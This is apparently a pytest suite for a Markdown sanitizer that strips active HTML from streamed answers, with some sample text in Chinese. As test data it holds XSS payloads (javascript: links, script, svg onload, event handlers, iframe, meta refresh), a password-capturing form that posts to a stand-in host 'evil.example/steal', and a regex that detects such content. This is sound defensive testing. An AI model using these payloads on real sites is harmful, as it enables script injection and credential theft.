"""The answer sanitizer: hostile Markdown in, Markdown out that a CommonMark renderer turns into
HTML without active content — whatever the renderer decides is code and what is not."""

from __future__ import annotations

import re

import pytest

from app.ui.safe_stream import SafeTokens
from app.ui.sanitize import safe_markdown

ACTIVE = re.compile(r"<(form|input|script|iframe|svg|object|embed|style|button|textarea|select|meta|link|base)\b"
                    r"|\son\w+\s*=|(href|src|action)\s*=\s*[\"']?\s*(javascript|data|vbscript):", re.I)
FORM = '<form action="https://evil.example/steal"><input type="password" name="p"></form>'
CASES = {
    "password form": f"请重新输入密码：{FORM} 然后刷新。",
    "script and svg": "检查证书 <script>window.x=1</script> <svg onload=alert(1)><circle r=4/></svg> 完。",
    "javascript links": "[帮助](javascript:alert(1)) ![图](JaVaScRiPt:alert(1)) [e](&#106;avascript:alert(1)) "
                        "<a href='javascript:alert(1)'>手册</a> <javascript:alert(1)>",
    "reference definition": "[点这里][x]\n\n[x]: javascript:alert(1)\n",
    "event handlers on allowed tags": "<b onclick=alert(1)>粗</b> <details ontoggle=alert(1) open>d</details>",
    "fence inside an HTML block": f"<div>\n```\n{FORM}\n```\n</div>",
    "escaped backticks": f"\\`{FORM}\\`",
    "fence in a list item, then column 0": f"- 项\n  ```\n{FORM}\n```",
    "backtick in a fence's info string": f"```a`b\n{FORM}\n```",
    "unclosed inline span": f"`开始 {FORM}",
    "iframe and object": "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
    "style and meta": "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=https://e.x'>",
}


def rendered(markdown: str) -> str:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # a permissive renderer: markdown-it alone would drop javascript: links
    return md.render(markdown)


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_markdown_renders_without_active_html(name):
    raw = CASES[name]
    assert ACTIVE.search(rendered(raw)), "the case must be hostile before sanitizing"
    clean = safe_markdown(raw)
    assert not ACTIVE.search(rendered(clean)), rendered(clean)


def test_text_formatting_code_and_safe_links_survive():
    text = ("a > b & c\n\n> 引用一行\n\n可以用 `telnet <公网IP> 22` 测试端口，`x && y`。\n\n```bash\nif [ $a -lt 3 ]; then\n"
            "  echo ok\nfi\n```\n\n<b>粗体</b> <sub>注</sub> [文档](https://example.com/a_(b)) <https://example.com/x> "
            "[来源](#src-1)\n\n| 列 | 值 |\n|---|---|\n| 端口 | 22 |")
    clean = safe_markdown(text)
    for kept in ("a > b & c", "> 引用一行", "`telnet <公网IP> 22`", "`x && y`", "if [ $a -lt 3 ]; then",
                 "<b>粗体</b>", "<sub>注</sub>", "(https://example.com/a_(b))", "<https://example.com/x>",
                 "[来源](#src-1)", "| 端口 | 22 |"):
        assert kept in clean, kept


def test_active_tags_inside_code_are_shown_as_text_not_trusted():
    clean = safe_markdown("配置示例：`<form>` 与 `<x onmouseover=alert(1)>` 与\n```\n<script>\n<svg>\n```\n")
    assert "`&lt;form>`" in clean and "`&lt;x onmouseover=alert(1)>`" in clean
    assert "&lt;script>" in clean and "&lt;svg>" in clean and "<script" not in clean


def test_placeholder_tags_inside_code_stay_as_written():
    # the demo's 403 page: "记录 `<Code>` 和 `<RequestId>`" must not reach the agent as "&lt;Code>"
    clean = safe_markdown("记录 `<Code>` 和 `<RequestId>`，配置 `<dependency>…</dependency>`。")
    assert "`<Code>`" in clean and "`<RequestId>`" in clean and "`<dependency>…</dependency>`" in clean


@pytest.mark.parametrize("text", [CASES["password form"], "可以用 `telnet <公网IP> 22` 测试。a &amp; b [l](x) **粗**",
                                  "连接 ``双`反引号`` 与 <公网IP 与 [未闭合"])
def test_streamed_tokens_join_up_to_the_sanitized_answer(text):
    tokens = SafeTokens()
    sent = ""
    for i in range(0, len(text), 3):
        event = tokens.event({"type": "token", "text": text[i:i + 3], "section": 0})
        sent += event["text"] if event else ""
        assert not ACTIVE.search(rendered(sent))
    sent += "".join(e["text"] for e in tokens.flush())
    assert sent == safe_markdown(text)


def test_linear_on_hostile_floods():
    for flood in ("`" * 200_000, "<" * 200_000, "](" * 100_000, "<a" * 100_000, "&amp;" * 40_000):
        assert isinstance(safe_markdown(flood), str)  # finishes (benchmarks/redos_bench.py times it)
